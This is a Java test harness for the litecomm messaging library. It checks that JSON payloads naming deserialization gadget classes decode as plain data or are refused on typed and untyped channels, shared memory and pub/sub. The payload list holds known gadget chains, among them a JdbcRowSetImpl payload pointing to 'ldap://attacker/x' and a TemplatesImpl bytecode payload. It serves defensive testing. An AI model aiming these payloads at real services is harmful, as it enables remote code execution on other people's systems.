package io.litecomm.reliability;

import static io.litecomm.reliability.ChildSupport.check;

import com.fasterxml.jackson.core.type.TypeReference;
import io.litecomm.Channel;
import io.litecomm.Comm;
import io.litecomm.CommException;
import io.litecomm.SharedMemory;
import io.litecomm.testing.RawJsonCodec;
import java.io.Serializable;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;

/**
 * Receives payloads naming gadget classes ({@code @class}, {@code @type}, {@code @c}, wrapper arrays
 * and objects) on an untyped channel, on typed channels (map, list, array, a bean with an
 * {@code Object} field, an abstract type) and through shared memory and pub/sub, and checks that each
 * one is decoded as plain JSON data or refused with a {@link CommException}. Run in a JVM whose class
 * loading is logged by {@link GadgetPayloadTest}, and in the test's own JVM. Argument: domain.
 */
public final class GadgetVictim {

    /** The gadget classes named on the wire; none may ever be loaded. */
    static final List<String> GADGETS = List.of("io.litecomm.reliability.WireGadget", "com.sun.rowset.JdbcRowSetImpl",
            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "javax.management.BadAttributeValueExpException",
            "org.apache.commons.io.output.DeferredFileOutputStream");

    /** Named as text: a class literal would load the class. */
    private static final String G = "io.litecomm.reliability.WireGadget";

    private GadgetVictim() {
    }

    /** A bean with an untyped field: where polymorphic decoding would put a gadget. */
    public static final class Envelope {
        public String name;
        public Object payload;
    }

    /**
     * The hostile payloads.
     *
     * @return raw JSON texts
     */
    static List<String> payloads() {
        List<String> payloads = new ArrayList<>();
        payloads.add("{\"@class\":\"" + G + "\",\"command\":\"touch /tmp/pwned\"}");
        payloads.add("{\"@type\":\"" + G + "\",\"command\":\"x\"}");
        payloads.add("{\"@c\":\".WireGadget\",\"command\":\"x\"}");
        payloads.add("[\"" + G + "\",{\"command\":\"x\"}]");
        payloads.add("{\"" + G + "\":{\"command\":\"x\"}}");
        payloads.add("{\"name\":\"n\",\"payload\":{\"@class\":\"" + G + "\",\"command\":\"x\"}}");
        payloads.add("{\"name\":\"n\",\"payload\":[\"" + G + "\",{\"command\":\"x\"}]}");
        payloads.add("{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker/x\","
                + "\"autoCommit\":true}");
        payloads.add("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker/x\",\"autoCommit\":true}]");
        payloads.add("{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\"yv66vg==\"],"
                + "\"_name\":\"a\",\"_tfactory\":{},\"outputProperties\":{}}");
        payloads.add("[\"javax.management.BadAttributeValueExpException\",{\"val\":\"x\"}]");
        payloads.add("{\"@class\":\"org.apache.commons.io.output.DeferredFileOutputStream\",\"threshold\":1}");
        return payloads;
    }

    /** Whether a decoded value is plain JSON data (or our bean holding plain data). */
    static boolean plain(Object value) {
        if (value == null || value instanceof String || value instanceof Boolean || value instanceof Integer
                || value instanceof Long || value instanceof Double || value instanceof BigInteger
                || value instanceof BigDecimal) {
            return true;
        }
        if (value instanceof Map<?, ?> map) {
            return map.keySet().stream().allMatch(k -> k instanceof String)
                    && map.values().stream().allMatch(GadgetVictim::plain);
        }
        if (value instanceof List<?> list) {
            return list.stream().allMatch(GadgetVictim::plain);
        }
        if (value instanceof Object[] array) {
            return List.of(array).stream().allMatch(GadgetVictim::plain);
        }
        if (value instanceof Envelope envelope) {
            return plain(envelope.payload);
        }
        return false;
    }

    /**
     * Sends every payload through every path and checks the outcome.
     *
     * @param domain a fresh domain
     * @return counts of plain decodes and refusals
     */
    static String run(Path domain) throws Exception {
        int decoded = 0;
        int refused = 0;
        try (Comm comm = Comm.open(domain)) {
            List<Channel<?>> receivers = List.of(comm.channel("untyped"),
                    comm.channel("map", new TypeReference<Map<String, Object>>() { }),
                    comm.channel("list", new TypeReference<List<Object>>() { }),
                    comm.channel("array", Object[].class),
                    comm.channel("envelope", Envelope.class),
                    comm.channel("abstract", Serializable.class));
            for (Channel<?> receiver : receivers) {
                Channel<byte[]> raw = comm.channel(receiver.name(), RawJsonCodec.INSTANCE);
                for (String payload : payloads()) {
                    raw.send(payload.getBytes(StandardCharsets.UTF_8));
                    try {
                        Object value = receiver.receive(Duration.ofSeconds(30)).orElseThrow();
                        check(plain(value), receiver.name() + ": not plain data: " + value.getClass() + " " + value);
                        decoded++;
                    } catch (CommException e) {
                        refused++;
                    }
                }
                check(receiver.tryReceive().isEmpty(), receiver.name() + ": a refused message was left behind");
            }
            decoded += sharedMemory(comm.sharedMemory());
        }
        return "decoded=" + decoded + " refused=" + refused;
    }

    private static int sharedMemory(SharedMemory memory) throws Exception {
        int decoded = 0;
        memory.set("object", Map.of("@class", G, "command", "x"));
        memory.set("array", List.of(G, Map.of("command", "x")));
        memory.set("wrapper", Map.of(G, Map.of("command", "x")));
        for (String key : List.of("object", "array", "wrapper")) {
            check(plain(memory.get(key)), key + ": " + memory.get(key));
            check(plain(memory.get(key, Object.class)), key + " as Object");
            try {
                check(plain(memory.get(key, Envelope.class)), key + " as Envelope");
            } catch (CommException wrongType) {
                // refused: fine
            }
            decoded++;
        }
        check(plain(memory.getAll()), "getAll: " + memory.getAll());
        CompletableFuture<Object> published = new CompletableFuture<>();
        memory.onSubscriberReceive("t", published::complete);
        memory.publish("t", Map.of("@type", G, "payload", List.of(G, Map.of())));
        Object got = published.get(30, TimeUnit.SECONDS);
        check(plain(got), "pub/sub: " + got);
        return decoded + 1;
    }

    public static void main(String[] args) throws Exception {
        ChildSupport.watchParent();
        String figures = run(Path.of(args[0]));
        check(System.getProperty(WireGadget.LOADED) == null, "WireGadget's static initialiser ran");
        ChildSupport.say("NO-GADGET-INITIALISED " + figures);
        ChildSupport.say("SENTINEL " + ClassLoadSentinel.touch());
        System.exit(0);
    }
}
